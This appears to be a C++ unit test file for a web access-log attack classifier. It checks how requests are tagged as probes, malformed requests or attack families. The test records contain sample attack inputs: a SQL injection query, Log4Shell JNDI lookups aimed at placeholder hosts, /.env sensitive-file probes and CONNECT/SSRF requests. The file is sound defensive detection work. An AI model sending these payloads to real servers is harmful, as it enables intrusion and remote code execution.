// What detect takes out of a record.
#include "detect/request_classifier.h"

#include <gtest/gtest.h>

#include <string>

namespace accesslog {
namespace {

Record Request(std::string_view path, uint16_t status = 404, std::string_view method = "GET") {
  Record record;
  record.line = "a line";
  record.request = "a request";
  record.method_text = method;
  record.path = path;
  record.status = status;
  return record;
}

RequestClassifier With(const DetectOptions& options) {
  return {options, SignaturesOf(options), /*secret=*/7};
}

RequestFacts FactsOf(const Record& record, const DetectOptions& options = {}) {
  return With(options).Classify(record);
}

bool Has(const RequestFacts& facts, AttackFamily family) {
  return (facts.families & AttackFamilyBit(family)) != 0;
}

TEST(RequestClassifier, TakesTheNumbersOfTheRecord) {
  Record record = Request("/page", 200);
  record.bytes = 4711;
  record.time = Time{std::chrono::seconds{5}};
  const RequestFacts facts = FactsOf(record);
  EXPECT_EQ(facts.line, "a line");
  EXPECT_EQ(facts.status, 200);
  EXPECT_EQ(facts.bytes, 4711U);
  EXPECT_TRUE(facts.has_bytes);
  EXPECT_TRUE(facts.has_body);
  EXPECT_EQ(facts.time, record.time);
  EXPECT_EQ(facts.families, 0);
  EXPECT_FALSE(facts.malformed);
  EXPECT_EQ(facts.login, LoginAnswer::kNone);
}

TEST(RequestClassifier, SaturatesSizes) {
  Record record = Request("/page", 200);
  record.bytes = uint64_t{1} << 40U;
  EXPECT_EQ(FactsOf(record).bytes, UINT32_MAX);
}

TEST(RequestClassifier, KnowsWhatIsABody) {
  Record record = Request("/page", 200);
  EXPECT_TRUE(FactsOf(record).has_body) << "a log without sizes";
  record.bytes = 0;
  EXPECT_FALSE(FactsOf(record).has_body);
  record.bytes = 1;
  EXPECT_TRUE(FactsOf(record).has_body);
  record.status = 206;
  EXPECT_TRUE(FactsOf(record).has_body);
  record.status = 302;
  EXPECT_FALSE(FactsOf(record).has_body);
  record.status = 200;
  record.method_text = "HEAD";
  EXPECT_FALSE(FactsOf(record).has_body);
}

TEST(RequestClassifier, KnowsProbes) {
  EXPECT_TRUE(FactsOf(Request("/admin")).is_probe);
  EXPECT_FALSE(FactsOf(Request("/logo.png")).is_probe);
  EXPECT_TRUE(FactsOf(Request("/logo.png")).is_static);
  EXPECT_FALSE(FactsOf(Request("")).is_probe);
  EXPECT_FALSE(FactsOf(Request("/dav/file", 404, "PROPFIND")).is_probe);
}

TEST(RequestClassifier, KnowsTheMalformed) {
  EXPECT_TRUE(FactsOf(Request("/page", 400)).malformed);
  EXPECT_TRUE(FactsOf(Request("", 200, "")).malformed);
  Record nothing = Request("", 408, "");
  nothing.request = "";
  EXPECT_FALSE(FactsOf(nothing).malformed) << "a connection on which nothing was asked";
  EXPECT_FALSE(FactsOf(Request("/page", 404)).malformed);
}

TEST(RequestClassifier, FindsAttacksInTargetAndHeaders) {
  EXPECT_TRUE(Has(FactsOf(Request("/.env")), AttackFamily::kSensitiveFile));
  EXPECT_TRUE(FactsOf(Request("/.env")).leaks);
  Record record = Request("/");
  record.query = "id=1+union+select+null,null";
  EXPECT_TRUE(Has(FactsOf(record), AttackFamily::kSqlInjection));
  record = Request("/");
  record.user_agent = "${jndi:ldap://x.example/a}";
  EXPECT_TRUE(Has(FactsOf(record), AttackFamily::kLog4Shell));
  EXPECT_TRUE(FactsOf(record).exploit);
  record = Request("/");
  record.referer = "%24{jndi:ldap://x.example/a}";
  EXPECT_TRUE(Has(FactsOf(record), AttackFamily::kLog4Shell));
}

TEST(RequestClassifier, TakesAnAdministratorsPagesForNoAttack) {
  EXPECT_TRUE(Has(FactsOf(Request("/phpmyadmin/", 404)), AttackFamily::kAdminInterface));
  EXPECT_TRUE(Has(FactsOf(Request("/phpmyadmin/", 403)), AttackFamily::kAdminInterface));
  EXPECT_EQ(FactsOf(Request("/phpmyadmin/", 200)).families, 0);
  EXPECT_EQ(FactsOf(Request("/phpmyadmin/", 302)).families, 0);
}

TEST(RequestClassifier, TakesAForeignHostForAnAttackWhereItIsRefused) {
  EXPECT_TRUE(FactsOf(Request("other.example:443", 405, "CONNECT")).exploit);
  EXPECT_TRUE(Has(FactsOf(Request("http://other.example/x", 404)), AttackFamily::kSsrf));
  EXPECT_EQ(FactsOf(Request("http://other.example/x", 200)).families, 0);
  Record own = Request("http://www.example:80/x", 404);
  own.host = "WWW.example:80";
  EXPECT_EQ(FactsOf(own).families, 0);
  Record linked = Request("http://www.example/x", 404);
  linked.referer = "https://www.example:8443/page";
  EXPECT_EQ(FactsOf(linked).families, 0);
}

TEST(RequestClassifier, LooksAtThePathBehindTheHost) {
  const RequestFacts facts = FactsOf(Request("http://www.example/.env", 200));
  EXPECT_TRUE(Has(facts, AttackFamily::kSensitiveFile));
  EXPECT_TRUE(FactsOf(Request("http://www.example", 200)).is_root);
  EXPECT_TRUE(FactsOf(Request("/", 200)).is_root);
  EXPECT_FALSE(FactsOf(Request("/x", 200)).is_root);
}

TEST(RequestClassifier, LeavesOutIgnoredPathsAndMethods) {
  DetectOptions options;
  options.ignore_paths = {"/status"};
  options.ignore_methods = {"OPTIONS"};
  EXPECT_TRUE(FactsOf(Request("/status"), options).ignored);
  EXPECT_TRUE(FactsOf(Request("/status/x"), options).ignored);
  EXPECT_TRUE(FactsOf(Request("//./%73tatus"), options).ignored);
  EXPECT_FALSE(FactsOf(Request("/statuses"), options).ignored);
  EXPECT_FALSE(FactsOf(Request("/status/../x"), options).ignored);
  EXPECT_TRUE(FactsOf(Request("/x", 404, "OPTIONS"), options).ignored);
  EXPECT_FALSE(FactsOf(Request("/x", 404, "options"), options).ignored);
}

TEST(RequestClassifier, KnowsProtectedPaths) {
  DetectOptions options;
  options.protected_paths = {"/intern"};
  EXPECT_TRUE(FactsOf(Request("/intern/x", 200), options).is_protected);
  EXPECT_TRUE(FactsOf(Request("/x/../intern", 200), options).is_protected);
  EXPECT_FALSE(FactsOf(Request("/international", 200), options).is_protected);
}

TEST(RequestClassifier, TellsUsersApart) {
  Record record = Request("/x", 200);
  EXPECT_EQ(FactsOf(record).user_hash, 0U);
  record.user = "ann";
  const uint32_t ann = FactsOf(record).user_hash;
  record.user = "bob";
  EXPECT_NE(ann, 0U);
  EXPECT_NE(FactsOf(record).user_hash, ann);
}

TEST(RequestClassifier, TellsTargetsApartByPathAndQuery) {
  const auto hash = [](std::string_view path, std::string_view query) {
    Record record = Request(path);
    record.query = query;
    return FactsOf(record).target_hash;
  };
  EXPECT_EQ(hash("/a", "b"), hash("/a", "b"));
  EXPECT_NE(hash("/a", "b"), hash("/a", "c"));
  EXPECT_NE(hash("/a", ""), hash("/b", ""));
  EXPECT_EQ(FactsOf(Request("/a")).path_hash, With({}).HashOfPath("/a"));
}

// Who changes what he calls himself asks for something else each time, if that is the attack.
TEST(RequestClassifier, TellsAttacksInUserAgentsApart) {
  Record one = Request("/");
  one.user_agent = "${jndi:ldap://one.example/a}";
  Record two = Request("/");
  two.user_agent = "${jndi:ldap://two.example/a}";
  EXPECT_NE(FactsOf(one).target_hash, FactsOf(two).target_hash);
  one.user_agent = "Mozilla/5.0";
  two.user_agent = "Opera";
  EXPECT_EQ(FactsOf(one).target_hash, FactsOf(two).target_hash);
}

// What is remembered of a target must not leak into another: more of them than it remembers.
TEST(RequestClassifier, ForgetsNothingThatMatters) {
  RequestClassifier classifier = With({});
  for (int round = 0; round < 2; ++round) {
    for (int i = 0; i < 10000; ++i) {
      const std::string path = "/page/" + std::to_string(i) + (i % 100 == 0 ? "/.env" : "");
      const RequestFacts facts = classifier.Classify(Request(path));
      ASSERT_EQ(facts.families != 0, i % 100 == 0) << path;
      ASSERT_EQ(facts.path_hash, classifier.HashOfPath(path));
    }
  }
}

TEST(RequestClassifier, TellsAConnectFromAGet) {
  RequestClassifier classifier = With({});
  EXPECT_FALSE(classifier.Classify(Request("other.example:443", 400, "GET")).exploit);
  EXPECT_TRUE(classifier.Classify(Request("other.example:443", 400, "CONNECT")).exploit);
  EXPECT_FALSE(classifier.Classify(Request("other.example:443", 400, "GET")).exploit);
}

TEST(RequestClassifier, HasTheUsersSignaturesToo) {
  DetectOptions options;
  options.signatures = {
      {.name = "ours", .family = "", .where = "referer", .contains = "evil", .pattern = ""}};
  options.signatures_off = {"dotenv"};
  Record record = Request("/x");
  record.referer = "http://evil.example/";
  EXPECT_TRUE(Has(FactsOf(record, options), AttackFamily::kCustom));
  EXPECT_EQ(FactsOf(record).families, 0);
  EXPECT_EQ(FactsOf(Request("/.env"), options).families, 0);
}

}  // namespace
}  // namespace accesslog
